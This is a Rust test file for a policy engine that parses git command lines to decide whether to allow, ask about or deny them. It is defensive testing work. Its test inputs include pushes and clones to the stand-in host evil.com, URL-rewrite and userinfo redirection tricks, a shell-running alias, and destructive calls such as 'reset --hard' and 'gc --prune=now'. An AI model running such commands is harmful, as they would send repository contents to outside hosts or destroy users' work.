//! What is known of calls of git, by its shipped grammar.

use tool_policy::facts::{Observed, Value, Wants};
use tool_policy::{Definition, Policy};

use crate::support::{judge_in, repository};

fn git() -> Policy {
    let grammar = include_str!("../../../tools.d/git/grammar.toml");
    Definition::from_toml("git", "default = \"allow\"", Some(grammar)).expect("git").policy
}

fn shown(value: &Value) -> String {
    String::from_utf8(value.to_bytes()).expect("text")
}

/// `name` of each call is that.
#[track_caller]
fn facts(name: &str, observed: &Observed, cases: &[(&str, &str)]) {
    let git = git();
    for (call, wanted) in cases {
        let verdict = judge_in(&git, call, observed);
        assert_ne!(verdict.rule.as_str(), "unread", "{call}: {:?}", verdict.reason);
        assert_eq!(shown(verdict.facts.get(name)), *wanted, "{name} of {call}");
    }
}

const CONFIG: &str = "[remote \"origin\"]\nurl = git@github.com:o/r.git\n\
    [remote \"mine\"]\nurl = https://github.com/me/r\npushurl = https://push.example/r\n\
    [branch \"topic\"]\nremote = origin\nmerge = refs/heads/topic\n";

#[test]
fn the_refs_of_a_push() {
    let cases = [
        ("push origin main", "main"),
        ("push origin HEAD:main", "main"),
        ("push origin a:refs/heads/main b", "main,b"),
        ("push -u origin topic", "topic"),
        ("push --repo=origin", "topic"),
        ("push", "topic"),
        ("push origin", "topic"),
        ("push origin HEAD", "topic"),
        ("push origin @", "topic"),
        ("push -f", "topic"),
        ("push origin :main", "main"),
        ("push origin --delete main other", "main,other"),
        ("push -d origin main", "main"),
        ("push origin tag v1", "refs/tags/v1"),
        ("push origin refs/tags/v1", "refs/tags/v1"),
        ("push --tags", "refs/tags/*"),
        ("push --tags origin main", "main,refs/tags/*"),
        ("push --follow-tags", "topic,refs/tags/*"),
        ("push --all", "*"),
        ("push --al", "*"),
        ("push origin refs/heads/*:refs/heads/*", "*"),
        ("push --mirror", "unknown"),
        ("push origin :", "unknown"),
        ("push --recurse-submodules=on-demand origin main", "unknown"),
        ("push --recurse-submodules=check origin main", "main"),
        ("--namespace=x push origin main", "unknown"),
        ("-c push.default=matching push", "unknown"),
        ("-c remote.origin.push=+refs/heads/*:refs/heads/* push origin", "unknown"),
        ("-c user.name=x push", "topic"),
        ("--git-dir=/elsewhere/.git push", "unknown"),
        ("--config-env=push.default=X push", "unknown"),
        ("status", ""),
        ("fetch origin main", ""),
    ];
    facts("ref", &repository("topic", CONFIG), &cases);
}

#[test]
fn a_push_without_refspecs_is_known_by_what_was_observed() {
    let with = |more: &str| repository("topic", &format!("{CONFIG}{more}"));
    for (config, wanted) in [
        ("", "topic"),
        ("[push]\ndefault = simple\n", "topic"),
        ("[push]\ndefault = current\n", "topic"),
        ("[push]\ndefault = upstream\n[branch \"topic\"]\nmerge = refs/heads/main\n", "main"),
        ("[push]\ndefault = matching\n", "unknown"),
        ("[push]\ndefault = nothing\n", ""),
        ("[push]\ndefault = later\n", "unknown"),
        ("[remote \"origin\"]\npush = HEAD:main\n", "unknown"),
        ("[remote \"origin\"]\nmirror = true\n", "unknown"),
        ("[remote]\npushDefault = mine\n", "topic"),
        ("[push]\nfollowTags = true\n", "topic,refs/tags/*"),
        ("[include]\npath = x\n", "unknown"),
    ] {
        facts("ref", &with(config), &[("push", wanted)]);
    }
    facts(
        "ref",
        &Observed::default(),
        &[
            ("push", "unknown"),
            ("push origin HEAD", "unknown"),
            ("push x y", "unknown"),
            // A configuration may have tags follow.
            ("push x y:y", "y,refs/tags/*"),
            ("push --no-follow-tags x y:y", "y"),
        ],
    );
    let tags = [("push x y:y", "*"), ("push --no-follow-tags x y:y", "")];
    facts("tags", &Observed::default(), &tags);
    let upstream = "[push]\ndefault = upstream\n[branch \"topic\"]\nmerge = refs/heads/main\n";
    let named = [
        ("push origin topic", "main"),
        ("push origin refs/heads/topic", "main"),
        ("push origin other", "other"),
        ("push origin HEAD", "unknown"),
        ("push origin topic:topic", "topic"),
        ("push -d origin topic", "topic"),
    ];
    facts("ref", &with(upstream), &named);
    facts("force", &with(upstream), &[("push origin +topic", "true")]);
    let said = "[remote \"origin\"]\npush = refs/heads/topic:refs/heads/main\n";
    let named =
        [("push origin topic", "unknown"), ("push mine topic", "topic"), ("push origin a:b", "b")];
    facts("ref", &with(said), &named);
    facts("force", &with("[remote \"origin\"]\nmirror = true\n"), &[("push", "unknown")]);
    facts("delete", &Observed::default(), &[("push", "unknown"), ("push -f x y", "false")]);
}

#[test]
fn force_and_delete() {
    let observed = repository("topic", CONFIG);
    let force = [
        ("push", "false"),
        ("push --force", "true"),
        ("push -f", "true"),
        ("push -uf origin x", "true"),
        ("push --force-with-lease", "true"),
        ("push --force-with-lease=x:y origin x", "true"),
        ("push origin +x", "true"),
        ("push origin +x:y", "true"),
        ("push --mirror", "true"),
        ("push --no-force", "false"),
        ("push --force --no-force", "true"),
        ("push origin -- -f", "false"),
        ("-c remote.origin.mirror=true push origin", "unknown"),
        ("fetch -f", "false"),
    ];
    facts("force", &observed, &force);
    let delete = [
        ("push", "false"),
        ("push origin :x", "true"),
        ("push origin +:x", "true"),
        ("push -d origin x", "true"),
        ("push --delete origin x", "true"),
        ("push --prune origin", "true"),
        ("push --mirror", "true"),
        ("branch -d x", "false"),
    ];
    facts("delete", &observed, &delete);
    let tags = [
        ("push origin tag v1", "v1"),
        ("push origin refs/tags/v1 v2", "v1"),
        ("push origin HEAD:refs/tags/v1", "v1"),
        ("push --tags", "*"),
        ("push --follow-tags", "*"),
        ("push origin main", ""),
    ];
    facts("tags", &observed, &tags);
}

#[test]
fn remotes_and_their_addresses() {
    let observed = repository("topic", CONFIG);
    let remote = [
        ("push", "origin"),
        ("push mine", "mine"),
        ("push --repo=mine", "mine"),
        ("push --repo=mine origin", "origin"),
        ("push https://evil.com/r main", "https://evil.com/r"),
        ("fetch", "origin"),
        ("fetch --all", "unknown"),
        ("pull mine main", "mine"),
        ("ls-remote", "origin"),
        ("status", ""),
    ];
    facts("remote", &observed, &remote);
    let url = [
        ("push", "git@github.com:o/r.git"),
        ("push mine", "https://push.example/r"),
        ("fetch mine", "https://github.com/me/r"),
        ("push https://evil.com/r", "https://evil.com/r"),
        ("push ../x", "../x"),
        ("clone https://evil.com/r", "https://evil.com/r"),
        ("clone -c a=b https://evil.com/r x", "https://evil.com/r"),
        ("remote add x https://evil.com", "https://evil.com"),
        ("remote set-url --push origin https://evil.com", "https://evil.com"),
        ("submodule add https://evil.com/r", "https://evil.com/r"),
        ("-c url.https://evil.com/.insteadOf=https:// push", "unknown"),
        ("-c remote.origin.url=x push", "unknown"),
        ("status", ""),
    ];
    facts("url", &observed, &url);
    let rewritten = repository("topic", &format!("{CONFIG}[url \"x\"]\ninsteadOf = y\n"));
    facts("url", &rewritten, &[("push", "unknown"), ("push https://github.com/x", "unknown")]);
    let nothing = Observed::default();
    facts("url", &nothing, &[("push https://github.com/x", "unknown"), ("clone x", "x")]);
}

#[test]
fn configuration_that_a_call_sets() {
    let cases = [
        ("-c core.fsmonitor=x status", "core.fsmonitor"),
        ("-c Core.FsMonitor=x -c a.b.c=d status", "core.fsmonitor,a.b.c"),
        ("-c core.fsmonitor status", "core.fsmonitor"),
        ("--config-env=a.b=X status", "a.b"),
        ("--config-env a.b=X status", "a.b"),
        ("clone -c a.b=c x", "a.b"),
        ("clone --config a.b=c x", "a.b"),
        ("config user.name x", "user.name"),
        ("config user.name", ""),
        ("config --get user.name", ""),
        ("config --list", ""),
        ("config -l", ""),
        ("config --global user.name x", "user.name"),
        ("config --unset user.name", "user.name"),
        ("config --add a.b c", "a.b"),
        ("config --remove-section alias", "alias.*"),
        ("config -e", "unknown"),
        ("config edit", "unknown"),
        ("config set a.b c", "a.b"),
        ("config unset a.b", "a.b"),
        ("config get a.b", ""),
        ("config list", ""),
        ("remote add evil https://x", "remote.evil.url,remote.evil.fetch"),
        ("remote set-url origin https://x", "remote.origin.url"),
        ("remote rm origin", "remote.origin.url,remote.origin.fetch"),
        ("remote rename a b", "remote.a.url,remote.a.fetch,remote.b.url,remote.b.fetch"),
        ("remote -v", ""),
        ("switch -c topic", ""),
        ("commit -c HEAD", ""),
    ];
    facts("config", &Observed::default(), &cases);
}

#[test]
fn what_only_switches_off_sets_nothing() {
    let cases = [
        ("-c pager.log=false log", ""),
        ("-c Pager.Log=0 log", ""),
        ("-c pager.log=./x log", "pager.log"),
        ("-c pager.log log", "pager.log"),
        ("-c pager.log=false -c pager.log=./x log", "pager.log"),
        ("-c diff.external= diff", ""),
        ("-c diff.external=x diff", "diff.external"),
        ("-c core.hooksPath=/dev/null commit", ""),
        ("-c core.hooksPath=/dev/nullx commit", "core.hookspath"),
        ("-c core.fsmonitor=false status", ""),
        ("-c core.fsmonitor=true status", "core.fsmonitor"),
        ("-c credential.helper= fetch", ""),
        ("-c credential.helper=x fetch", "credential.helper"),
        ("--config-env=pager.log=false log", "pager.log"),
        ("-c pager.log=false --config-env=a.b=X -c a.c=d log", "a.b,a.c"),
        ("config core.hooksPath /dev/null", "core.hookspath"),
        ("-c push.default=current push", ""),
        ("-c push.default=upstream push", "push.default"),
        ("-c alias.pager.x=false status", "alias.pager.x"),
    ];
    facts("configures", &Observed::default(), &cases);
    let tracks = "[push]\ndefault = upstream\n[branch \"topic\"]\nmerge = refs/heads/main\n";
    let observed = repository("topic", &format!("{CONFIG}{tracks}"));
    let cases = [
        ("-c push.default=current push origin topic", "topic"),
        ("-c push.default=simple push", "topic"),
        ("-c push.default=current -c push.default=upstream push", "unknown"),
        ("-c push.default=matching push origin topic", "unknown"),
        ("push origin topic", "main"),
    ];
    facts("ref", &observed, &cases);
}

#[test]
fn what_a_call_throws_away() {
    let cases = [
        ("reset --hard", "changes"),
        ("reset --hard HEAD~1", "changes"),
        ("reset", ""),
        ("reset --soft HEAD~1", ""),
        ("reset x.c", ""),
        ("clean -fd", "files"),
        ("clean -n", ""),
        ("clean -n --no-dry-run -f", "files"),
        ("checkout main", ""),
        ("checkout -b new main", ""),
        ("checkout feature/x", ""),
        ("checkout -f main", "changes"),
        ("checkout -- x", "changes"),
        ("checkout .", "changes"),
        ("checkout ./x", "changes"),
        ("checkout src/", "changes"),
        ("checkout :/", "changes"),
        ("checkout *.c", "changes"),
        ("checkout HEAD x.c", "changes"),
        ("checkout HEAD --", ""),
        ("checkout -B main", "commits"),
        ("switch main", ""),
        ("switch -f main", "changes"),
        ("switch --discard-changes main", "changes"),
        ("switch -C main", "commits"),
        ("-C sub switch main", ""),
        ("restore x", "changes"),
        ("restore --staged x", ""),
        ("restore -SW x", "changes"),
        ("branch -d x", ""),
        ("branch -D x", "commits"),
        ("branch -d -f x", "commits"),
        ("branch -M a b", "commits"),
        ("branch -f x y", "commits"),
        ("-C sub branch", ""),
        ("tag -d v1", "tags"),
        ("tag v1", ""),
        ("stash", ""),
        ("stash pop", ""),
        ("stash drop", "stashes"),
        ("stash clear", "stashes"),
        ("reflog", ""),
        ("reflog expire --all", "commits"),
        ("gc", ""),
        ("gc --prune=now", "commits"),
        ("repack", ""),
        ("repack -d", ""),
        ("repack -a", ""),
        ("repack -ad", "commits"),
        ("repack -A -d", "commits"),
        ("repack -d --cruft --cruft-expiration=now", "commits"),
        ("rm x", ""),
        ("rm -f x", "changes"),
        ("rm -f --cached x", ""),
        ("worktree remove -f x", "changes,files"),
        ("commit --amend", ""),
        ("rebase main", ""),
    ];
    facts("loses", &Observed::default(), &cases);
}

#[test]
fn what_has_to_be_observed() {
    let git = git();
    for (call, path) in [
        ("push", Some("")),
        ("push origin HEAD", Some("")),
        ("-C sub push", Some("sub")),
        ("-C a -C b push", Some("a/b")),
        ("-C a -C /b -C c push", Some("/b/c")),
        ("pull", Some("")),
        ("fetch", Some("")),
        ("--git-dir=x push", None),
        ("--work-tree x push", None),
        ("status", None),
        ("commit -C HEAD", None),
        ("fly", None),
    ] {
        let words: Vec<&[u8]> = call.split(' ').map(str::as_bytes).collect();
        let wants = match git.wants(&words) {
            Wants::Nothing | Wants::Promisor { .. } => None,
            Wants::Repository { path, .. } => Some(path),
        };
        assert_eq!(wants.as_deref(), path.map(str::as_bytes), "{call}");
    }
    let refs = |call: &str| {
        let words: Vec<&[u8]> = call.split(' ').map(str::as_bytes).collect();
        match git.wants(&words) {
            Wants::Nothing | Wants::Promisor { .. } => Vec::new(),
            Wants::Repository { refs, .. } => refs,
        }
    };
    let named = |call: &str| {
        refs(call).iter().map(|name| name.escape_ascii().to_string()).collect::<Vec<_>>().join(" ")
    };
    let all = "a refs/a refs/tags/a refs/heads/a refs/remotes/a refs/remotes/a/HEAD";
    assert_eq!(named("push origin a"), all);
    assert_eq!(named("push -f origin +a x:y"), all);
    let head = "refs/HEAD refs/tags/HEAD refs/heads/HEAD refs/remotes/HEAD refs/remotes/HEAD/HEAD";
    assert_eq!(named("push origin HEAD"), head);
    assert_eq!(named("push origin @"), head);
    assert_eq!(named("push origin tag a"), "refs/tags/a");
    for call in ["push", "push origin", "push origin a:b ^c d/*", "push -d origin a", "fetch x a"] {
        assert_eq!(named(call), "", "{call}");
    }
}

#[test]
fn a_ref_that_stands_for_another_is_not_taken_for_itself() {
    let mut observed = repository("topic", CONFIG);
    observed.symbolic = true;
    let cases = [
        ("push origin alias", "unknown"),
        ("push origin HEAD", "unknown"),
        ("push origin tag v1", "unknown"),
        ("push origin alias:topic", "topic"),
        ("push", "topic"),
    ];
    facts("ref", &observed, &cases);
}

#[test]
fn a_remote_that_the_configuration_does_not_have_is_not_known() {
    let observed = repository("topic", CONFIG);
    let cases = [
        ("push old", "unknown"),
        ("push old topic", "unknown"),
        ("push old a:b", "b"),
        ("push mine topic", "topic"),
        ("push ../other topic", "topic"),
        ("push https://example.com/r topic", "topic"),
    ];
    facts("ref", &observed, &cases);
    facts("unclear", &observed, &[("push old", "true"), ("push old topic", "true")]);
}

#[test]
fn a_push_in_submodules_is_not_known() {
    let cases = [
        ("-c submodule.recurse=true push origin topic", "unknown"),
        ("-c submodule.recurse push origin topic", "unknown"),
        ("-c push.recurseSubmodules=only push origin topic", "unknown"),
        ("push origin topic", "topic"),
    ];
    facts("ref", &repository("topic", CONFIG), &cases);
    for more in ["[push]\nrecurseSubmodules = on-demand\n", "[submodule]\nrecurse = true\n"] {
        let observed = repository("topic", &format!("{CONFIG}{more}"));
        let cases = [
            ("push origin topic", "unknown"),
            ("push", "unknown"),
            ("push --no-recurse-submodules origin topic", "topic"),
        ];
        facts("ref", &observed, &cases);
        facts("unclear", &observed, &[("push origin a:b", "true")]);
    }
}

#[test]
fn patterns_meet_refs_by_every_name_and_stars_by_what_they_may_be() {
    let grammar = include_str!("../../../tools.d/git/grammar.toml");
    let caught = |matcher: &str, call: &str| {
        let rule = |decision: &str, default: &str| {
            let text = format!(
                "default = \"{default}\"\nprotected = [\"main\", \"release/*\"]\n[[rule]]\nid = \"x\"\n\
                 reason = \"x\"\ndecision = \"{decision}\"\nfacts = {{ {matcher} }}"
            );
            let policy =
                Definition::from_toml("git", &text, Some(grammar)).expect("a policy").policy;
            judge_in(&policy, call, &repository("topic", CONFIG)).decision.as_str() == decision
        };
        (rule("deny", "allow"), rule("allow", "ask"))
    };
    let (yes, no, unknown) = ((true, true), (false, false), (true, false));
    for (matcher, call, wanted) in [
        ("ref = \"main\"", "push origin main", yes),
        ("ref = \"main\"", "push origin refs/heads/main", yes),
        ("ref = \"main\"", "push origin heads/main", yes),
        ("ref = \"refs/heads/main\"", "push origin x:main", yes),
        ("ref = { one_of = [\"refs/heads/main\"] }", "push origin main", yes),
        ("ref = \"@protected\"", "push origin release/1", yes),
        ("ref = \"@protected\"", "push origin topic", no),
        ("ref = \"main\"", "push origin topic main", unknown),
        ("ref = \"main\"", "push origin refs/tags/main", no),
        ("ref = \"main\"", "push --all", unknown),
        ("ref = \"*\"", "push --all", yes),
        ("ref = \"main\"", "push --tags", no),
        ("ref = \"refs/tags/*\"", "push --tags", yes),
        ("ref = \"refs/tags/v?\"", "push --tags", unknown),
        ("ref = \"main\"", "push --mirror", unknown),
        ("ref = { not = \"topic\" }", "push", no),
        ("ref = { not = \"topic\" }", "push --mirror", unknown),
        ("ref = \"main\"", "status", no),
        ("force = true", "push -f", yes),
        ("force = false", "push", yes),
        ("force = true", "-c remote.origin.mirror=true push", unknown),
        ("config = \"core.hooksPath\"", "clone -c Core.HooksPath=x y", yes),
        ("config = \"alias.*\"", "clone -c alias.x=!sh y", yes),
        ("config = \"remote.origin.url\"", "remote set-url origin x", yes),
        ("config = \"alias.x\"", "config --remove-section alias", unknown),
        ("url = { host = \"github.com\" }", "push", yes),
        ("url = { host = \"github.com\" }", "push https://github.com@evil.com/x main", no),
        ("url = { not = { host = \"github.com\" } }", "push https://evil.com/x main", yes),
        ("url = { not = { host = \"github.com\" } }", "push", no),
    ] {
        assert_eq!(caught(matcher, call), wanted, "{matcher}: {call}");
    }
}

#[test]
fn what_may_run_unread_is_taken_for_the_worst() {
    let grammar = include_str!("../../../tools.d/git/grammar.toml");
    let rule = "[[rule]]\nid = \"x\"\nreason = \"x\"\ndecision = \"deny\"\nsubcommand = \"push\"\nfacts = { ref = \"main\" }";
    let judged = |unread: &str, call: &str| {
        let text = format!("default = \"allow\"\nunread = \"{unread}\"\n{rule}");
        let policy = Definition::from_toml("git", &text, Some(grammar)).expect("a policy").policy;
        judge_in(&policy, call, &repository("topic", CONFIG)).rule.as_str().to_owned()
    };
    assert_eq!(judged("allow", "push --new origin topic"), "x");
    assert_eq!(judged("allow", "status --new"), "unread");
    assert_eq!(judged("ask", "push --new origin topic"), "unread");
    assert_eq!(judged("deny", "push --new origin main"), "x");
}

#[test]
fn settings_directories_and_what_is_written_to() {
    let nothing = Observed::default();
    let setting = [
        ("-c Core.HooksPath=/X status", "core.hookspath=/X"),
        ("--config-env=a.b=ENV status", "a.b=*"),
        ("clone -c a.b=c x", "a.b=c"),
        ("config user.name x", "user.name=x"),
        ("config set user.name x", "user.name=x"),
        ("config user.name", ""),
        ("config -e", "unknown"),
        ("switch -c a=b", ""),
    ];
    facts("setting", &nothing, &setting);
    let directories = [
        ("-C a -C b status", "a/b"),
        ("-C a --git-dir=b --work-tree /c status", "a,a/b,/c"),
        ("status", ""),
        ("commit -C HEAD", ""),
    ];
    facts("directories", &nothing, &directories);
    let writes = [
        ("-C sub diff --output=x", "sub/x"),
        ("init /x", "/x"),
        ("clone https://x/y z", "z"),
        ("clone ../y", "../y"),
        ("worktree add ../x", "../x"),
        ("bundle create x main", "x"),
        ("config -f x a.b c", "x"),
        ("pack-objects /x/base", "/x/base"),
        ("index-pack -o /x.idx y.pack", "/x.idx"),
        ("read-tree --index-output=/x HEAD", "/x"),
        ("mailinfo /m /p", "/m,/p"),
        ("repack -a --filter=blob:none --filter-to=/x", "/x"),
        ("archive --remote=/srv/x main", "/srv/x"),
        ("archive --remote=origin main", ""),
        ("archive --remote=https://example.com/x main", ""),
        ("clone --reference=/srv/x https://example.com/r", "/srv/x"),
        ("clone --reference-if-able /srv/x https://example.com/r", "/srv/x"),
        ("clone --bundle-uri=/srv/x https://example.com/r", "/srv/x"),
        ("clone --bundle-uri=https://example.com/x https://example.com/r", ""),
        ("push ../x main", "../x"),
        ("push origin main", ""),
        ("status", ""),
    ];
    facts("writes", &nothing, &writes);
    let unclear = [
        ("push", "true"),
        ("push origin a:b", "false"),
        ("push --mirror", "false"),
        ("-c push.default=x push origin a:b", "true"),
        ("status", "false"),
    ];
    facts("unclear", &nothing, &unclear);
    facts(
        "unclear",
        &repository("topic", CONFIG),
        &[("push", "false"), ("push origin x", "false")],
    );
}
